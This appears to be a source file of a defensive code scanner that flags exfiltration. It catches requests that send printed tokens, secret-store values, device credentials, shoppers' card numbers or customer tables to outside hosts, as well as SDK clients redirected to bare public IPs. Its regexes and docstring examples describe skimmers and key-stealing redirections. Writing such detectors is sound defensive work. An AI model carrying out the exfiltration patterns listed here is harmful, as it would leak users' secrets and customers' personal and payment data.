_FETCHES_CODE = re.compile(rb"\b(?:requests|httpx)\.get\(|urlopen\(|urlretrieve\(|\.request\(")
_CONNECT_HOST = re.compile(rb"""(?:\.connect\(\s*(?:hostname\s*=\s*)?|Transport\(\s*\(\s*)["']([^"']+)["']""")


def _connected_address(data: bytes) -> str | None:
    """The public IP address an ssh client in the code connects to, when it is written as one (an address, not a
    name: no inventory, bastion or config entry of the user's); None otherwise."""
    from ..hosts import public_ip

    for m in _CONNECT_HOST.finditer(data):
        host = m.group(1).decode("utf-8", "replace").rsplit("@", 1)[-1]
        if public_ip(host):
            return host
    return None



# -- what else a request's body carries off: a token a program printed, a secret store's value, a device's stored
# credentials, a shopper's card, a table of customers (Carried, called for each request by calls.py) ---------------
# the programs that print a token (bash/ecosystems.TOKEN_PRINTERS) -> the variable that holds the same token, read as
# secret_owner reads it (`gh auth token` is $GITHUB_TOKEN: github.com's)
_PRINTED_AS = {"gh": "GITHUB_TOKEN", "glab": "GITLAB_TOKEN", "hf": "HF_TOKEN", "huggingface-cli": "HF_TOKEN",
               "fly": "FLY_API_TOKEN", "flyctl": "FLY_API_TOKEN", "heroku": "HEROKU_API_KEY", "npm": "NPM_TOKEN",
               "vault": "VAULT_TOKEN", "gcloud": "GCLOUD_ACCESS_TOKEN"}
# a secret store's read of one secret's value, and where its name is given (AWS Secrets Manager and SSM, Google's
# Secret Manager, Azure Key Vault, Vault's hvac)
_STORE_VALUE_READS = frozenset({"get_secret_value", "access_secret_version", "get_secret", "read_secret_version",
                                "read_secret", "get_parameter"})
_SECRET_IDS = ("SecretId", "Name", "name", "secret_id", "path", "secret_name", "secret", "request")
# a serial console's reads, and a command written to it that asks the device for its stored credentials
_SERIAL_READS = frozenset({"read", "readline", "readlines", "read_until", "read_all", "readall"})
_ASKS_CREDENTIALS = re.compile(rb"""(?i)\.write\(\s*b?["'](?=[^"'\n]*(?:\bnvs[ _-]?(?:dump|get|read)|\b(?:dump|"""
                               rb"""get|read|show|print|cat|export|list)\b[^"'\n]*\b(?:wifi|wlan|wpa\w*|psk|passw\w*|"""
                               rb"""secrets?|tokens?|creds?|credentials|aws|keys?|privkey|private|certs?)\b))([^"'\n]*)""")
# a card's number and security code by the names forms and payment APIs give them
_CARD_NUMBER = re.compile(r"(?i)(?<![a-z])(?:cc_?(?:num|number|no)|card_?(?:number|num|no)|cardnumber|ccnumber|"
                          r"pan)(?![a-z])")
_CARD_EXPIRY = re.compile(r"(?i)(?<![a-z])(?:cc_?|card_?)(?:exp|expiry|expiration|exp_month|exp_year)(?![a-z])")
_CARD_CODE = re.compile(r"(?i)(?<![a-z])(?:cc_?|card_?)?(?:cvc|cvv2?|csc|security_?code)(?![a-z])")
# what a web handler reads the shopper's form or JSON from (Flask, Django, FastAPI/Starlette, aiohttp)
_WEB_INPUT = re.compile(rb"\brequest\.(?:form|json|get_json|POST|values|data|body|args|query_params|post)\b")
# card processors and vaults: where a card's number and code are meant to go
_CARD_PROCESSORS = ("stripe.com", "braintreegateway.com", "braintree-api.com", "authorize.net", "adyen.com",
                    "adyenpayments.com", "checkout.com", "paypal.com", "squareup.com", "worldpay.com", "cybersource.com",
                    "globalpay.com", "paymentech.net", "mollie.com", "razorpay.com", "payu.com", "nmi.com",
                    "elavon.com", "bluesnap.com", "2checkout.com", "paystack.co", "flutterwave.com", "moneris.com",
                    "opayo.co.uk", "sagepay.com", "spreedly.com", "verygoodproxy.com", "vgs.io", "basistheory.com",
                    "payfort.com", "payone.com", "klarna.com", "affirm.com", "wepay.com", "paysafe.com", "dlocal.com")
# a SELECT of a table of people, and the columns of it that say who and where someone is
# (read by finance_tables.selects: `\bselect\s+(.{1,400}?)\s+from\s+…`, in linear time)
_PEOPLE_FROM = re.compile(r"(?is)(?<!\s)(\s+)from\s+[\w.\"`\[\]]*?\b(customers?|users?|accounts?|"
                          r"members?|clients?|patients?|employees?|subscribers?|contacts?|people|persons?|shoppers?|"
                          r"buyers?|profiles?|wp_users|auth_user|customer_\w+|sales_order\w*|orders?|addresses)\b")
# `\w*address` starts a word or follows a column matched inside one (`email_address`): the only places the search
# could find it; not tried (each time to the word's end) after every `_` of a long word. (Read: a select's columns.)
_PERSONAL = re.compile(r"(?i)(?<![a-z])(?:e_?mail|phone|mobile|(?:(?<!\w)|(?<=mail.)|(?<=phone.)|(?<=mobile.)|"
                       r"(?<=address.)|(?<=name.)|(?<=dob.)|(?<=ssn.)|(?<=passport.)|(?<=iban.)|(?<=pass.))\w*address|"
                       r"full_?name|first_?name|last_?name|"
                       r"surname|birth\w*|dob|ssn|passport|iban|card\w*|passw\w*|user_pass)(?![a-z])")
# what a name followed to what it holds may have been given (`v = client.get_secret("k").value` too)
_VALUE_KINDS = _PAYLOAD_KINDS | {"attribute", "await", "parenthesized_expression"}
_ROW_READS = frozenset({"fetchall", "fetchmany", "all", "read_sql", "read_sql_query", "fetch", "mappings"})
# where a file of rows is put rather than a service called
_UPLOAD_PATH = re.compile(r"(?i)\.(?:json|csv|tsv|xlsx?|sql|gz|zip|parquet|ndjson)(?:$|\?)")


def _people_select(text: str) -> tuple[str, str] | None:
    """The columns and the table of the first SELECT of a table of people in `text` (_PEOPLE_FROM's table)."""
    return next(((cols, frm.group(2)) for cols, frm in selects(text, _PEOPLE_FROM, 400)), None)


def _customers_place(said: str, host: str, _name: str = "") -> bool:
    """Whether `host` may be given the customers' data `said` (finance_tables.customer_query) reads: the user's own
    network by its name, the card processors and vaults for card numbers, the identity-verification vendors for
    identity documents, the bank-data providers for bank links' tokens."""
    from ..finance_tables import customers_place

    return customers_place(said, host)


class Carried:
    """Secrets and personal data in the body of a request to another host, gathered in ways `_secret_reads` does not
    name: a token a program printed, a secret store's value, a device's stored credentials read over its serial
    console, the card a shopper typed into a checkout form, the whole customers table."""

    def request_carries(self, q: str | None, fn, meth: str | None, node, pos: list) -> None:
        """A request (requests, httpx, a session's or client's `.post`, urlopen) whose body or query holds one of
        those, to a host that is not theirs: exfiltration. Settled by the call's name and a test of the code's text
        before anything is followed."""
        if not (q is not None and (q.startswith(("requests.", "httpx.")) or q in ("urllib.request.urlopen",
                                                                                   "urllib.request.Request"))
                or meth in ("post", "put", "patch", "request")):
            return
        data = self.doc.data
        token = self.lists and any(k.startswith("token ") for k in self.lists) or holds(data, b"token") and holds(data, b"subprocess")
        hints = (token, holds(data, b"secret") or holds(data, b"get_parameter"), holds(data, b"serial"),
                 holds(data, b"request."), holds(data, b"fetch") or holds(data, b"read_sql") or holds(data, b".all()"))
        if not any(hints):
            return
        parts = self._request_parts(q, fn, meth, node, pos)
        if parts is None:
            return
        what, url_node, payloads = parts
        url = self._url_text(url_node)
        host = remote_target(url)
        if not host:
            return
        for kind, said, at, name in self._body_finds(payloads, hints):
            if kind == "secret":
                own = owner(name) if name else None
                if own is None and not public_ip(host) or own is not None and (
                        own.owns(host) or published_url(url) or _OWN_NETWORK.search(host)):
                    continue  # (the user's own Vault logs in with a GitHub token; processes._published judges a
                    # published body)
                whose = own.described(name) if own is not None else "its service"
                self.block("exfiltration", f"`{what}` sends {said} to {host}, which is not {whose}: the secret "
                                           "itself goes to that host; use it only to call its own service (in an "
                                           "Authorization header), and tell the user where it is kept", at)
                return
            if kind == "device":
                self.block("exfiltration", f"`{what}` sends {said} to {host}: the device's network and cloud "
                                           "credentials leave the machine; keep what the device stores on it, and "
                                           "read only the values the task needs", at)
                return
            if kind == "card" and not self._card_processor(host):
                self.block("exfiltration", f"`{what}` sends the card a shopper typed in ({said}) to {host}, which "
                                           "is not a card processor: a server-side skimmer; send card data only to "
                                           "the payment provider (better, a token its client library made)", at)
                return
            if kind == "customer" and not _customers_place(said, host, name or ""):
                self.block("exfiltration", f"`{what}` sends the {said} to {host}, which the code does not name as the "
                                           "project's own service or the provider that keeps them: the customers' "
                                           "data leaves the user's systems; keep it in the vault it is read from",
                           at)
                return
            if kind == "people" and not _OWN_NETWORK.search(host):
                if public_ip(host) or _UPLOAD_PATH.search(url or "") or (meth or q or "").endswith("put"):
                    self.block("exfiltration", f"`{what}` uploads {said} to {host}: the customers' personal data "
                                               "leaves the user's systems; export it only where the user says, "
                                               "with their own tools", at)
                else:
                    self.review("exfiltration", f"`{what}` sends {said} to {host} in one request: a person should "
                                                "confirm that host is a service the user keeps customer data with "
                                                "(their CRM or mail provider)", at)
                return

    def _request_parts(self, q: str | None, fn, meth: str | None, node, pos: list):
        """(what to call it, the URL's node, the body's and query's nodes) of a request; None when it is none."""
        from .http_calls import _FUNCTIONS, _METHODS

        if q is not None and q in _FUNCTIONS:
            url_at = _FUNCTIONS[q][1]
        elif q in ("urllib.request.urlopen", "urllib.request.Request"):
            url_at = (0, "url")
        elif meth in _METHODS and fn is not None and fn.type == "attribute":
            url_at = _METHODS[meth][1]
        else:
            return None
        url = self._arg(node, *url_at)
        if url is None:
            return None
        payloads = [a.child_by_field_name("value") for a in self.args(node) if a.type == "keyword_argument" and
                    self.src(a.child_by_field_name("name")) in _PAYLOAD_KEYS]
        payloads += pos[url_at[0] + 1:url_at[0] + 3]
        if url.type == "call" and q == "urllib.request.urlopen":  # urlopen(Request(url, data))
            payloads += [v for v in (self._arg(url, 1, "data"),) if v is not None]
            url = self._arg(url, 0, "url")
            if url is None:
                return None
        if url.type == "string":  # f"https://h/c?t={token}"
            payloads += [c.child_by_field_name("expression") for c in url.children
                         if c.type == "interpolation" and c.child_by_field_name("expression") is not None]
        payloads = [p for p in payloads if p is not None]
        what = self.src(fn) if fn is not None and fn.end_byte - fn.start_byte <= 60 else (meth or q or "request")
        return (what, url, payloads) if payloads else None

    def _body_finds(self, payloads: list, hints: tuple) -> list:
        """(kind, what it is, node, the variable it stands for) of each such thing in the expressions `payloads`,
        names given one value followed a few levels (a loop's name is not: `for email in rows` sends one row)."""
        token, store, serial, web, rows = hints
        tokens = [(k[6:], v) for k, v in self.lists.items() if k.startswith("token ")] if token else []
        out: list = []
        if web and in_input(_WEB_INPUT, self.doc.data):
            text = " ".join(self._followed_text(p) for p in payloads)
            number, code = _CARD_NUMBER.search(text), _CARD_CODE.search(text)
            expiry = _CARD_EXPIRY.search(text) if number is not None else None
            if code is not None or expiry is not None:  # (a `pan` alone may be a camera's)
                said = ", ".join(m.group(0) for m in (number, expiry or code) if m is not None)
                out.append(("card", said, payloads[0], None))
        stack, seen = [(p, 0) for p in payloads], 0
        while stack and seen < 256:
            n, depth = stack.pop()
            seen += 1
            t = n.type
            if t == "identifier" and depth < 3:
                name = self.src(n)
                hit = next((v for k, v in tokens if k == name), None)
                if hit is not None:
                    out.append(("secret", hit[1], n, self._printed_as(hit[1])))
                    continue
                made = self.declared(n, _VALUE_KINDS) or self.bound.get(name) or \
                    (self._walrus_value(name) if rows else None)  # while batch := cur.fetchmany(500)
                if made is not None and made.type in _VALUE_KINDS:
                    stack.append((made, depth + 1))
                continue
            if t == "call":
                printed = self._prints_token(n) if token else None
                if printed is not None:  # requests.post(u, json={"t": check_output(["gh", "auth", "token"])})
                    out.append(("secret", f"the token {printed} prints", n, self._printed_as(printed)))
                    continue
                found = self._carried_call(n, store, serial, rows)
                if found is not None:
                    out.append(found)
                    continue
            if t == "attribute":  # (`.payload` names an attribute, not the variable `payload`)
                stack += [(c, depth) for c in [n.child_by_field_name("object")] if c is not None]
                continue
            stack.extend((c, depth) for c in n.named_children if c.type != "if_clause")
        return out

    def _walrus_value(self, name: str):
        """The value of `name` given by an assignment expression (`while batch := cur.fetchmany(500):`)."""
        m = re.search(rb"(?<![\w.])" + re.escape(name.encode()) + rb"\s*:=", self.doc.data)
        if m is None or self.root is None:
            return None
        at = self.root.descendant_for_byte_range(m.start(), m.start() + len(name))
        up = at.parent if at is not None else None
        return up.child_by_field_name("value") if up is not None and up.type == "named_expression" else None

    def _prints_token(self, call) -> str | None:
        """`gh auth token` when `call` runs a program with a literal argv that prints a token (printed_token)."""
        q = self.qualname(call.child_by_field_name("function")) or ""
        if not q.startswith("subprocess."):
            return None
        argv = next((a for a in self.args(call) if a.type != "keyword_argument"), None)
        if argv is None or argv.type not in ("list", "tuple"):
            return None
        return printed_token([self.string(c) for c in argv.named_children])

    def _carried_call(self, call, store: bool, serial: bool, rows: bool):
        fn = call.child_by_field_name("function")
        if fn is None or fn.type != "attribute":
            return None
        meth = self.src(fn.child_by_field_name("attribute"))
        if store and meth in _STORE_VALUE_READS:
            name = self._secret_id(call, meth)
            if name is not None:
                return ("secret", f"the secret {name} read from the secret store", call,
                        re.sub(r"[^A-Za-z0-9]+", "_", name.rpartition("/secrets/")[2] or name).strip("_").upper())
        if serial and meth in _SERIAL_READS and in_input(_ASKS_CREDENTIALS, self.doc.data):
            root, _, _ = self.origin(fn.child_by_field_name("object"))
            if root is not None and root.startswith("serial."):
                m = _ASKS_CREDENTIALS.search(self.doc.data)
                asked = m.group(1).decode("utf-8", "replace").replace("\\r", "").replace("\\n", "").strip()[:40]
                return ("device", f"what the device's serial console answers to `{asked}` (its stored credentials)",
                        call, None)
        if rows and meth in _ROW_READS:
            texts = self._query_texts(call)
            held = next((found for found in map(customer_query, texts) if found is not None), None)
            if held is not None and not held.startswith("identity"):
                return ("customer", held, call, None)  # card numbers, bank tokens: whichever table holds them
            query = self._people_query(texts)
            if query is not None:
                return ("people", query, call, None)
            if held is not None:
                return ("customer", held, call, None)
        return None

    def _secret_id(self, call, meth: str) -> str | None:
        """The name a secret store's read is given (`SecretId="prod/acme/db"`, `client.get_secret("acme-db")`); SSM's
        `get_parameter` only with `WithDecryption=True`."""
        if meth == "get_parameter" and self.src(self.kwarg(call, "WithDecryption") or call) != "True":
            return None
        given = next((v for k in _SECRET_IDS for v in [self.kwarg(call, k)] if v is not None), None)
        if given is None:
            given = next((a for a in self.args(call) if a.type != "keyword_argument"), None)
        if given is not None and given.type == "dictionary":  # access_secret_version(request={"name": …})
            given = next((p.child_by_field_name("value") for p in given.named_children if p.type == "pair" and
                          self.string(p.child_by_field_name("key")) == "name"), None)
        return self.string(given) if given is not None else None

    def _people_query(self, texts: list) -> str | None:
        """What a read of every row gives when its query selects people's personal columns from a table of people
        (`conn.execute("select email, phone, billing_address from customers").fetchall()`, also a cursor that ran
        it earlier, `pd.read_sql(Q, con)`): "the rows of customers (email, phone, …)"; None otherwise."""
        for text in texts:
            m = _people_select(text or "")
            if m is None:
                continue
            cols = [c.group(0) for c in _PERSONAL.finditer(m[0])]
            if m[0].strip() == "*" or len(cols) >= 2:
                return f"every row of {m[1]} ({', '.join(cols[:4]) or 'every column'})"
        return None

    def _query_texts(self, call) -> list:
        """The SQL a read of rows (`cur.fetchall()`, `conn.execute(Q).fetchmany(500)`, `pd.read_sql(Q, con)`) ran:
        its own query, the cursor's or connection's call that made it, and what the cursor executed earlier."""
        texts = [self.string(a) for a in self.args(call) if a.type != "keyword_argument"][:1]
        obj = call.child_by_field_name("function").child_by_field_name("object")
        for _ in range(4):  # conn.execute(Q).fetchall(), cur.fetchall() after cur.execute(Q)
            if obj is None:
                break
            if obj.type == "identifier":
                name = self.src(obj)
                texts += [m.group(1).decode("utf-8", "replace") for m in re.finditer(
                    rb"(?<![\w.])" + re.escape(name.encode()) + rb"\.execute\(\s*(?:f?[\"']{1,3})([^\"']{8,600})",
                    self.doc.data)][:4]
                obj = self.bound.get(name) or self.declared(obj, frozenset({"call"}))
                continue
            if obj.type != "call":
                break
            texts += [self.string(a) for a in self.args(obj) if a.type != "keyword_argument"][:1]
            f = obj.child_by_field_name("function")
            obj = f.child_by_field_name("object") if f is not None and f.type == "attribute" else None
        return [t for t in texts if t]

    def _followed_text(self, node, depth: int = 0) -> str:
        """The text of an expression with the names in it replaced by what they were given once, a few levels."""
        text = self.src(node)
        if depth >= 2 or len(text) > 4000:
            return text
        extra = []
        stack = [node]
        while stack and len(extra) < 16:
            n = stack.pop()
            if n.type == "identifier":
                made = self.declared(n, _PAYLOAD_KINDS)
                if made is not None:
                    extra.append(self._followed_text(made, depth + 1))
                continue
            stack.extend(n.named_children)
        return " ".join([text, *extra])

    @staticmethod
    def _printed_as(what: str) -> str:
        m = re.search(r"`([\w.-]+)", what)
        return _PRINTED_AS.get(m.group(1), "") if m is not None else ""

    @staticmethod
    def _card_processor(host: str) -> bool:
        host = host.lower().rstrip(".")
        return _OWN_NETWORK.search(host) is not None or any(host == h or host.endswith("." + h)
                                                            for h in _CARD_PROCESSORS)

    def mqtt_relay(self, fn, node, pos: list) -> None:
        """A paho-mqtt client connected to a broker written as a public address that publishes the messages another
        client of the code subscribes to (`out.publish("fleet/" + msg.topic, msg.payload)` in the on_message of a
        client subscribed to `#`): the fleet's traffic copied off the network, as a Kafka mirror is."""
        if not any(v.startswith("paho") for v in self.alias.values()):
            return
        given = pos[0] if pos else self.kwarg(node, "host")
        host = self.string(given) if given is not None else None
        obj = fn.child_by_field_name("object")
        if not host or not public_ip(host) or obj is None or obj.type != "identifier":
            return
        name = re.escape(self.src(obj).encode())
        data = self.doc.data
        sent = re.search(rb"(?<![\w.])" + name + rb"\.publish\(([^\n]*)", data)
        if sent is None or b"payload" not in sent.group(1):
            return
        if any(m.group(1) != self.src(obj).encode() for m in re.finditer(rb"(?<![\w.])(\w+)\.subscribe\(", data)):
            self.block("exfiltration", f"`{self.src(fn)}` connects to an MQTT broker at {host}, an address outside "
                                       "this network, and publishes there the messages the code subscribes to on "
                                       "another broker: the devices' traffic is copied off the machine; bridge only "
                                       "between the organisation's brokers", node)

    def sdk_pointed(self, left, right) -> None:
        """`stripe.api_base = "https://198.51.100.50"` with `stripe.api_key` set in the code: the SDK sends its key
        with every call, now to a bare public address (TLS checks turned off or not), as a token in a header to a
        stranger is (Owner.stranger_in_header)."""
        obj = left.child_by_field_name("object")
        url = self.string(right)
        if obj is None or obj.type != "identifier" or not url or self.src(obj) not in self.alias:
            return
        from ..hosts import url_host

        host = url_host(url) if "://" in url else _host_of(url)
        if not host or not public_ip(host):
            return
        mod = self.src(obj)
        m = re.search(rb"(?<![\w.])" + re.escape(mod.encode()) + rb"\.(?:api_key|secret_key|api_token|token|"
                      rb"access_token|auth_token)\s*=\s*([^\n]+)", self.doc.data)
        if m is None:
            return
        said = self._key_given(m.group(1).decode("utf-8", "replace"), self.alias[mod].split(".")[0], host)
        if said is not None:
            self.block("exfiltration", f"the `{mod}` SDK is pointed at {host}, a bare public address, and given "
                                       f"{said}: every call hands the key to that machine; leave the SDK's API base "
                                       "as it is (a mock server runs on localhost)", left.parent)

    def sdk_client_pointed(self, q: str, node) -> None:
        """`OpenAI(base_url="http://203.0.113.9/v1", api_key=os.environ["OPENAI_API_KEY"])`: a client made to send
        the service's key to a bare public address (the same as sdk_pointed, in a constructor)."""
        base = next((v for k in ("base_url", "api_base", "base_address", "endpoint") for v in [self.kwarg(node, k)]
                     if v is not None), None)
        url = self.string(base) if base is not None else None
        if not url:
            return
        from ..hosts import url_host

        host = url_host(url) if "://" in url else _host_of(url)
        key = next((v for k in ("api_key", "token", "auth_token", "access_token") for v in [self.kwarg(node, k)]
                    if v is not None), None)
        if not host or not public_ip(host) or key is None:
            return
        said = self._key_given(self.src(key), q.split(".")[0], host)
        if said is not None:
            self.block("exfiltration", f"`{q}` is pointed at {host}, a bare public address, and given {said}: every "
                                       "call hands the key to that machine; use the service's own address (a mock "
                                       "server runs on localhost)", node)

    @staticmethod
    def _key_given(text: str, service: str, host: str) -> str | None:
        """What a key set as `text` is, when it is the service's real key and `host` a stranger to that service
        (Owner.stranger_in_header): read from a variable whose name says a secret (`os.environ["STRIPE_SECRET_KEY"]`)
        or written as one (`sk_live_…`, read as the SDK's service's); None for a placeholder (`api_key="EMPTY"`)."""
        m = re.search(r"""(?:environ(?:\.get)?\s*[\[(]|getenv\(\s*)\s*["']([A-Za-z_][A-Za-z0-9_]*)["']""", text)
        if m is not None:
            name, said = m.group(1), f"${m.group(1)}"
            if not secret_name(name):
                return None
        elif re.search(r"""["'](?:sk|rk)[_-](?:live|test|proj|ant)?[_-]?[A-Za-z0-9_-]{16,}["']""", text):
            name, said = f"{service.upper()}_API_KEY", f"its {service} key"
        else:
            return None
        own = owner(name)
        return said if own is not None and own.stranger_in_header(host) else None
